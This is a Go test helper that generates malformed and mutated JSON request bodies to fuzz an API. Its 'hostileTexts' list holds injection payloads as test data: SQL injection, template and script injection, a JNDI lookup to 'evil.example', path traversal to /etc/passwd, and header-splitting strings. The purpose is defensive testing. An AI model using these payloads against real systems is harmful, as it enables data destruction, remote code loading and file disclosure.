package api

import (
	"encoding/json"
	"fmt"
	"maps"
	"math/rand/v2"
	"slices"
	"strings"
)

// broken stands for bytes that are no UTF-8, until the request is written: JSON texts cannot hold them.
const broken = "\uE000broken\uE000"

// hostileTexts are texts that have broken others: with what is no text, what turns it round, pieces of SQL, templates,
// paths, programs and headers, and more than anyone types.
var hostileTexts = []string{
	"", " ", "\x00", "a\x00b", broken, "\u202Egnp.exe", "\uFEFF", "\u2028", "\U0010FFFF", strings.Repeat("\u0301", 300),
	"'; DROP TABLE cases; --", `" OR 1=1 --`, "1) UNION SELECT password FROM people --", "%' ESCAPE '", `\`, "$1", "?",
	"{{7*7}}${7*7}<%= 7*7 %>", "<script>alert(1)</script>", "=1+1|cmd", "%s%n%d", "${jndi:ldap://evil.example/a}",
	"../../../../etc/passwd", `..\..\windows\win.ini`, "/etc/passwd", "file:///etc/passwd", "CON", "a\r\nX-Evil: 1", "a\nX-Evil: 1",
	strings.Repeat("长", 70_000), strings.Repeat("x", 300_000), strings.Repeat("9", 5_000), "NaN", "null", "-1", "1e309", "2027-02-30", "9999-99-99",
	"00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff", "FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF",
}

// hostileNumbers are those at the ends of what programs can count.
var hostileNumbers = []any{
	-1, 0, 0.1, -0.0001, 201, 1e9, 1e308, json.Number("1e400"), json.Number("-1e400"), json.Number("9223372036854775807"),
	json.Number("9223372036854775808"), json.Number("-9223372036854775809"), json.Number("1.0"), json.Number("1e2"), json.Number("0." + strings.Repeat("3", 5_000)),
}

// wrongTypes are values of every type that JSON has.
var wrongTypes = []any{nil, true, false, 7, "x", []any{}, []any{nil}, map[string]any{}, map[string]any{"x": []any{1}}}

// spot is a place in a JSON value, and how to change what is there.
type spot struct {
	value any
	set   func(any)
	drop  func() // nil where it cannot be left out
	in    map[string]any
}

// spots lists all places in a value.
func spots(value any, set func(any), drop func()) []spot {
	all := []spot{{value: value, set: set, drop: drop}}
	switch v := value.(type) {
	case map[string]any:
		all[0].in = v
		for _, name := range sortedKeys(v) {
			all = append(all, spots(v[name], func(x any) { v[name] = x }, func() { delete(v, name) })...)
		}
	case []any:
		for i := range v {
			all = append(all, spots(v[i], func(x any) { v[i] = x }, nil)...)
		}
	}
	return all
}

// mutated is a valid JSON body with one thing wrong, and what that is. What it becomes may still be valid: a text that looks
// like SQL is a text.
func mutated(chance *rand.Rand, valid any) (body, what string) {
	if valid == nil || chance.IntN(5) == 0 {
		return broke(chance, written(valid))
	}
	root := copied(valid)
	places := spots(root, func(x any) { root = x }, nil)
	s := places[chance.IntN(len(places))]
	switch chance.IntN(7) {
	case 0:
		wrong := wrongTypes[chance.IntN(len(wrongTypes))]
		s.set(wrong)
		what = fmt.Sprintf("%T for %T", wrong, s.value)
	case 1:
		if s.drop != nil {
			s.drop()
			what = "something missing"
			break
		}
		s.set(nil)
		what = "null"
	case 2:
		name := []string{"extra", "__proto__", "constructor", "id", "person", "actor", "role", "bodies", "decidedAt", broken}[chance.IntN(10)]
		if s.in == nil {
			s = places[0]
		}
		if s.in != nil {
			s.in[name] = "x"
		}
		what = "something extra"
	case 3:
		s.set(many(s.value, 3_000))
		what = "a long list"
	case 4:
		s.set(nested(200))
		what = "deep nesting"
	case 5:
		n := hostileNumbers[chance.IntN(len(hostileNumbers))]
		s.set(n)
		what = fmt.Sprintf("the number %.30v", n)
	default:
		text := hostileTexts[chance.IntN(len(hostileTexts))]
		s.set(text)
		what = fmt.Sprintf("the text %.30q", text)
	}
	return written(root), what
}

// broke is a text that is no JSON any more, or is it in a way nobody writes.
func broke(chance *rand.Rand, text string) (body, what string) {
	at := 0
	if text != "" {
		at = chance.IntN(len(text))
	}
	switch chance.IntN(8) {
	case 0:
		return text[:at], "half a body"
	case 1:
		return text + text, "two bodies"
	case 2:
		return text[:at] + "\xff\xfe" + text[at:], "broken UTF-8"
	case 3:
		return text[:at] + "\x00" + text[at:], "a NUL"
	case 4:
		return strings.Repeat("[", 20_000) + strings.Repeat("]", 20_000), "20000 brackets"
	case 5:
		return strings.Repeat(`{"a":`, 9_000) + "1" + strings.Repeat("}", 9_000), "9000 objects in each other"
	case 6:
		return strings.Replace(text, "{", `{"reason":"a","reason":"b",`, 1), "a field twice"
	default:
		return text + strings.Repeat(" ", 3<<20), "3 MB"
	}
}

func many(value any, n int) []any {
	if list, ok := value.([]any); ok && len(list) > 0 {
		value = list[0]
	}
	all := make([]any, n)
	for i := range all {
		all[i] = value
	}
	return all
}

func nested(depth int) any {
	var value any = "x"
	for range depth {
		value = []any{value}
	}
	return value
}

// written is a value as JSON; what stands for broken bytes becomes them.
func written(value any) string {
	if value == nil {
		return ""
	}
	text, err := json.Marshal(value)
	if err != nil {
		panic(err) // values of tests can be written
	}
	return strings.ReplaceAll(string(text), broken, "\xff\xfe")
}

// copied is the value as a client has it before it writes it.
func copied(value any) any {
	text, err := json.Marshal(value)
	if err != nil {
		panic(err)
	}
	var same any
	if err := json.Unmarshal(text, &same); err != nil {
		panic(err)
	}
	return same
}

// sortedKeys are a map's keys in order, so that a seed gives the same requests.
func sortedKeys[V any](of map[string]V) []string { return slices.Sorted(maps.Keys(of)) }
